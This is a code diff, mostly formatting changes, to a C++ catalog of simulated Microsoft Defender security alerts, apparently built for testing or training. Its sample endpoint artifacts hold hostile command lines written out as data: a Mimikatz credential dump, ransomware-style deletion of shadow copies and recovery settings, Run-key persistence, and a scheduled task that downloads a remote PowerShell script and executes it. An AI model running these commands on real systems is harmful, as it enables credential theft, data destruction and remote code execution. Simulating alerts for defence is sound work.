@@ -1,6 +1,5 @@
 #include "alert_catalog.h"
 
-
 namespace sim {
 namespace {
 
@@ -33,47 +32,105 @@ constexpr sv kSignInActions =
     "require multifactor authentication registration.";
 
 constexpr EndpointArtifacts kPowerShell{
-    "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+    "powershell.exe",
+    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
     "\"powershell.exe\" -NoProfile -ExecutionPolicy Bypass -Command \"Get-Process | Where-Object { $_.Name -like "
     "'lsass*' } | Select-Object Id, Path | Out-File -Encoding utf8 'C:\\Users\\{user}\\AppData\\Local\\Temp\\p.txt'\"",
-    "cmd.exe", "C:\\Windows\\System32", "", "", "", "", "", ""};
-constexpr EndpointArtifacts kMimikatz{
-    "mimikatz.exe", "C:\\Users\\{user}\\Downloads\\verktyg",
-    "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
-    "cmd.exe", "C:\\Windows\\System32", "mimikatz.exe", "C:\\Users\\{user}\\Downloads\\verktyg", "", "", "", ""};
-constexpr EndpointArtifacts kEmotet{
-    "WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16",
-    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
-    "\"C:\\Users\\{user}\\Downloads\\Faktura_2024-åäö.docm\" /o \"\"",
-    "explorer.exe", "C:\\Windows", "Faktura_2024-åäö.docm", "C:\\Users\\{user}\\Downloads", "", "", "", ""};
+    "cmd.exe",
+    "C:\\Windows\\System32",
+    "",
+    "",
+    "",
+    "",
+    "",
+    ""};
+constexpr EndpointArtifacts kMimikatz{"mimikatz.exe",
+                                      "C:\\Users\\{user}\\Downloads\\verktyg",
+                                      "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
+                                      "cmd.exe",
+                                      "C:\\Windows\\System32",
+                                      "mimikatz.exe",
+                                      "C:\\Users\\{user}\\Downloads\\verktyg",
+                                      "",
+                                      "",
+                                      "",
+                                      ""};
+constexpr EndpointArtifacts kEmotet{"WINWORD.EXE",
+                                    "C:\\Program Files\\Microsoft Office\\root\\Office16",
+                                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
+                                    "\"C:\\Users\\{user}\\Downloads\\Faktura_2024-åäö.docm\" /o \"\"",
+                                    "explorer.exe",
+                                    "C:\\Windows",
+                                    "Faktura_2024-åäö.docm",
+                                    "C:\\Users\\{user}\\Downloads",
+                                    "",
+                                    "",
+                                    "",
+                                    ""};
 constexpr EndpointArtifacts kInjection{
-    "rundll32.exe", "C:\\Windows\\System32",
+    "rundll32.exe",
+    "C:\\Windows\\System32",
     "rundll32.exe \"C:\\Users\\{user}\\AppData\\Roaming\\更新\\helper.dll\",DllRegisterServer",
-    "svchost.exe", "C:\\Windows\\System32", "helper.dll", "C:\\Users\\{user}\\AppData\\Roaming\\更新", "", "", "", ""};
+    "svchost.exe",
+    "C:\\Windows\\System32",
+    "helper.dll",
+    "C:\\Users\\{user}\\AppData\\Roaming\\更新",
+    "",
+    "",
+    "",
+    ""};
 constexpr EndpointArtifacts kRansomware{
-    "cmd.exe", "C:\\Windows\\System32",
+    "cmd.exe",
+    "C:\\Windows\\System32",
     "cmd.exe /c \"vssadmin.exe delete shadows /all /quiet & wbadmin delete catalog -quiet & bcdedit /set {default} "
     "recoveryenabled No\"",
-    "lönelista_2024.exe", "C:\\Users\\{user}\\Documents\\Ekonomi", "lönelista_2024.exe",
-    "C:\\Users\\{user}\\Documents\\Ekonomi", "", "", "", ""};
+    "lönelista_2024.exe",
+    "C:\\Users\\{user}\\Documents\\Ekonomi",
+    "lönelista_2024.exe",
+    "C:\\Users\\{user}\\Documents\\Ekonomi",
+    "",
+    "",
+    "",
+    ""};
 constexpr EndpointArtifacts kAsep{
-    "reg.exe", "C:\\Windows\\System32",
+    "reg.exe",
+    "C:\\Windows\\System32",
     "reg.exe add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v OneDriveUpdate /t REG_SZ /d "
     "\"\\\"C:\\Users\\{user}\\AppData\\Local\\Temp\\odu.exe\\\" --silent\" /f",
-    "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "", "", "",
-    "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDriveUpdate",
+    "powershell.exe",
+    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+    "",
+    "",
+    "",
+    "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+    "OneDriveUpdate",
     "\"C:\\Users\\{user}\\AppData\\Local\\Temp\\odu.exe\" --silent"};
 constexpr EndpointArtifacts kCustomTi{
-    "chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application",
+    "chrome.exe",
+    "C:\\Program Files\\Google\\Chrome\\Application",
     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility --utility-sub-type=network.mojom."
     "NetworkService --lang=sv --service-sandbox-type=none",
-    "explorer.exe", "C:\\Windows", "", "", "http://update-check.example-c2.net/gate.php?id=7f3a&os=win10|x64", "", "",
+    "explorer.exe",
+    "C:\\Windows",
+    "",
+    "",
+    "http://update-check.example-c2.net/gate.php?id=7f3a&os=win10|x64",
+    "",
+    "",
     ""};
 constexpr EndpointArtifacts kSchtasks{
-    "schtasks.exe", "C:\\Windows\\System32",
+    "schtasks.exe",
+    "C:\\Windows\\System32",
     "schtasks.exe /Create /SC ONLOGON /TN \"\\Microsoft\\Windows\\Uppdatering\\Hälsokontroll\" /TR \"powershell.exe -w "
     "hidden -c \\\"iwr http://198.51.100.23/a.ps1 | iex\\\"\" /RL HIGHEST /F",
-    "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "", "", "", "", "", ""};
+    "powershell.exe",
+    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+    "",
+    "",
+    "",
+    "",
+    "",
+    ""};
 
 constexpr sv kT1059[] = {"T1059.001", "T1027"};
 constexpr sv kT1003[] = {"T1003.001"};
@@ -109,15 +166,15 @@ const Scenario kScenarios[] = {
      "When used by attackers, these tools are often installed without authorization and used to compromise "
      "targeted machines. This detection might indicate that Microsoft Defender Antivirus stopped the tool from "
      "being installed and used effectively.",
-     kAvActions, kT1003, "HackTool:Win32/Mimikatz.D", "Mimikatz", kHigh, EvidenceKit::EndpointMalware, &kMimikatz, 6, ""},
+     kAvActions, kT1003, "HackTool:Win32/Mimikatz.D", "Mimikatz", kHigh, EvidenceKit::EndpointMalware, &kMimikatz, 6,
+     ""},
     {kMde, "antivirus", kMdeProduct, "da", "An active 'Emotet' malware was detected", "Malware",
      "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful "
      "actions on affected machines. An active 'Emotet' malware process was detected while executing; it arrived as "
      "a macro-enabled document and tried to download a second-stage payload.",
      kAvActions, kT1204, "Trojan:Win32/Emotet.ARJ!MTB", "Emotet", kHighMedium, EvidenceKit::EndpointMalware, &kEmotet,
      8, ""},
-    {kMde, "microsoftDefenderForEndpoint", kMdeProduct, "da", "Suspicious process injection observed",
-     "DefenseEvasion",
+    {kMde, "microsoftDefenderForEndpoint", kMdeProduct, "da", "Suspicious process injection observed", "DefenseEvasion",
      "A process injected code into another process, a technique attackers use to hide malicious code in a "
      "legitimate process and to evade security products. The injecting library was loaded by rundll32 from a user "
      "profile folder.",
@@ -175,8 +232,8 @@ const Scenario kScenarios[] = {
     {"microsoftDefenderForCloudApps", "cloudAppSecurity", "Microsoft Defender for Cloud Apps", "ca",
      "Mass download by a single user", "Exfiltration",
      "A user downloaded an unusually large number of files from a cloud storage app in a single session.",
-     "Find out why the user downloaded the files and whether the session was the user's.", kT1530, "", "",
-     kLowMedium, EvidenceKit::CloudApp, nullptr, 2, ""},
+     "Find out why the user downloaded the files and whether the session was the user's.", kT1530, "", "", kLowMedium,
+     EvidenceKit::CloudApp, nullptr, 2, ""},
     {"azureAdIdentityProtection", "azureAdIdentityProtection", "Microsoft Entra ID Protection", "ad",
      "Unfamiliar sign-in properties", "InitialAccess",
      "The sign-in had properties that were not seen recently for the user: location, IP address, browser and "
@@ -190,8 +247,8 @@ const Scenario kScenarios[] = {
      "A document containing Swedish personal identity numbers was shared with people outside the organization.",
      "Review the document and the sharing link, and remove external access if it is not allowed.", kNone, "", "",
      kLowMedium, EvidenceKit::Dlp, nullptr, 4, ""},
-    {"microsoft365Defender", "microsoft365Defender", "Microsoft Defender XDR", "ra",
-     "Suspicious URL clicked", "InitialAccess",
+    {"microsoft365Defender", "microsoft365Defender", "Microsoft Defender XDR", "ra", "Suspicious URL clicked",
+     "InitialAccess",
      "A user opened a URL from an e-mail that later was identified as malicious. Correlated signals from e-mail and "
      "the endpoint suggest the page was visited.",
      kMailActions, kT1566_2, "", "", kHighMedium, EvidenceKit::EmailClick, nullptr, 3, ""},
